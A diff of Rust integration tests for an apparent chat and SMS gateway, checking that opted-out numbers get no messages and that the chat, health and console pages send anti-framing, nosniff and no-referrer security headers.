+    for v in &seen {
+        let text = v.to_string().to_lowercase();
+        assert!(
+            !text.contains("stop") && !text.contains("opt"),
+            "a frame tells of the opt-out: {v}"
+        );
+    }
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(
+        common::standin::sms_to(&log, stopped).is_empty(),
+        "{:?}",
+        common::standin::sms_to(&log, stopped)
+    );
+
+    // The visitor's own number gets its code.
+    let mine = "+34612345678";
+    let seen = switch_frame(
+        &mut ws,
+        json!({"type": "switch", "channel": "sms", "phone": mine}),
+    )
+    .await;
+    assert_eq!(seen.last().unwrap()["type"], "switch_code", "{seen:?}");
+    assert_eq!(common::standin::sms_to(&log, mine).len(), 1);
+    assert_eq!(all_sms(&log).len(), 1, "{:?}", all_sms(&log));
+}
+
+/// The value of a response header (lower-cased), if present.
+fn header_value(r: &HttpReply, name: &str) -> Option<String> {
+    r.headers.lines().find_map(|l| {
+        let (k, v) = l.split_once(':')?;
+        (k.trim() == name).then(|| v.trim().to_string())
+    })
+}
+
+/// The chat page and /healthz cannot be framed, sniffed or leak their
+/// URL as a referrer; the console keeps its own policy, also unframeable
+/// and without a referrer.
+#[test]
+fn pages_carry_the_security_headers() {
+    let (port, _log, _twilio) = common::standin::stand_in();
+    let gw = chat_gateway(port, "", "");
+    let mut wrong = Vec::new();
+    for path in ["/chat/", "/healthz", "/console/"] {
+        let r = gw.http("GET", path, &[], None);
+        if r.status != 200 {
+            wrong.push(format!("{path}: status {}", r.status));
+        }
+        let csp = header_value(&r, "content-security-policy").unwrap_or_default();
+        if !csp.split(';').any(|d| d.trim() == "frame-ancestors 'none'") {
+            wrong.push(format!(
+                "{path}: CSP without frame-ancestors 'none': {csp:?}"
+            ));
+        }
+        if header_value(&r, "x-content-type-options").as_deref() != Some("nosniff") {
+            wrong.push(format!("{path}: no X-Content-Type-Options: nosniff"));
+        }
+        if header_value(&r, "referrer-policy").as_deref() != Some("no-referrer") {
+            wrong.push(format!(
+                "{path}: Referrer-Policy {:?}",
+                header_value(&r, "referrer-policy")
+            ));
+        }
+    }
+    // The console runs under a policy of its own, not the default.
+    let console = gw.http("GET", "/console/", &[], None);
+    let csp = header_value(&console, "content-security-policy").unwrap_or_default();
+    if !csp.contains("connect-src 'self'") {
+        wrong.push(format!("/console/: not its own CSP: {csp:?}"));
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+// The finding "Call-ID with ESC/NUL reaching the CDR" is held by
+// tests/sip_calls.rs `control_characters_in_the_call_id_never_reach_the_cdr`.
